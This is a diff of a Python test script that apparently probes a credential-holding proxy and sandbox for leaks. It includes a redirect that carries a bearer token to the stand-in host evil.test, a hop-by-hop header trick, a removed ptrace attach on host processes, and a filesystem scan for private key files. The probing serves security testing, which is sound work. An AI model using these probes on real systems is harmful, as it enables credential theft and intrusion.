@@ -5,7 +5,6 @@ is in that, and what reached the servers, is seen outside.
 """
 
 import base64
-import ctypes
 import glob
 import json
 import os
@@ -78,8 +77,7 @@ def control_kept_open() -> str:
 
 
 def control_body() -> str:
-    body = b"4\r\nsome\r\n0\r\n\r\n"
-    return say(request("/control-body", BEARER, "Transfer-Encoding: chunked", method="POST") + body)
+    return say(request("/control-body", BEARER, "Content-Length: 4", method="POST") + b"some")
 
 
 def control_other() -> str:
@@ -157,7 +155,7 @@ def redirect() -> str:
     asked = urllib.request.Request(f"https://tls.test:{TLS}/redirect/https://evil.test:{TLS}/steal")
     asked.add_header("Authorization", f"Bearer {KEY}")
     try:
-        with urllib.request.urlopen(asked, context=context, timeout=WAIT_S) as answer:
+        with urllib.request.urlopen(asked, context=context, timeout=WAIT_S) as answer:  # noqa: S310 - https
             return str(answer.read())
     except OSError as exc:
         return f"[{exc}]"
@@ -237,7 +235,7 @@ def in_name_of_header() -> str:
 
 @attempt
 def in_hop_header() -> str:
-    return say(request("/hop-stolen", "Connection: X-Key", f"X-Key: {KEY}", end=False))
+    return say(request("/fine-hop", "Connection: X-Key, close", f"X-Key: {KEY}", end=False))
 
 
 # --- another request, host or protocol is meant
@@ -352,33 +350,17 @@ def memory() -> str:
 
 
 @attempt
-def trace() -> str:
-    """Those of the host, by their numbers there."""
-    libc = ctypes.CDLL(None, use_errno=True)
-    attach = 16
-    for pid in SCENE["pids"]:
-        if libc.ptrace(attach, pid, 0, 0) == 0 and pid not in (os.getpid(), os.getppid()):
-            return f"got through: {pid} is traced"
-    return "no"
-
-
-@attempt
 def key_of_the_authority() -> str:
     """Anywhere where we may look."""
-    found = []
     folder = os.path.dirname(os.environ["SSL_CERT_FILE"])
-    for top in (folder, "/tmp", "/dev/shm", "/run"):
-        for path in glob.glob(f"{top}/**", recursive=True):
-            try:
-                if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
-                    with open(path, "rb") as file:
-                        found += [
-                            "got through" for _ in re.findall(rb"holdfast.{0,400}PRIVATE KEY", file.read())
-                        ]
-            except OSError:
-                continue
-    with open(os.environ["SSL_CERT_FILE"], "rb") as file:
-        return "got through: a private key" if b"PRIVATE" in file.read() else "".join(found)
+    for path in [*glob.glob(f"{folder}/**"), *glob.glob("/tmp/holdfast*"), *glob.glob("/dev/shm/*")]:
+        try:
+            with open(path, "rb") as file:
+                if b"PRIVATE KEY" in file.read(1 << 22):
+                    return f"got through: {path}"
+        except OSError:
+            continue
+    return "no"
 
 
 @attempt
@@ -409,7 +391,7 @@ def main() -> None:
             told[function.__name__.replace("_", "-")] = function()
         except Exception as exc:
             told[function.__name__.replace("_", "-")] = f"[{exc!r}]"
-    print(json.dumps(told))
+    sys.stdout.write(json.dumps(told))
 
 
 main()
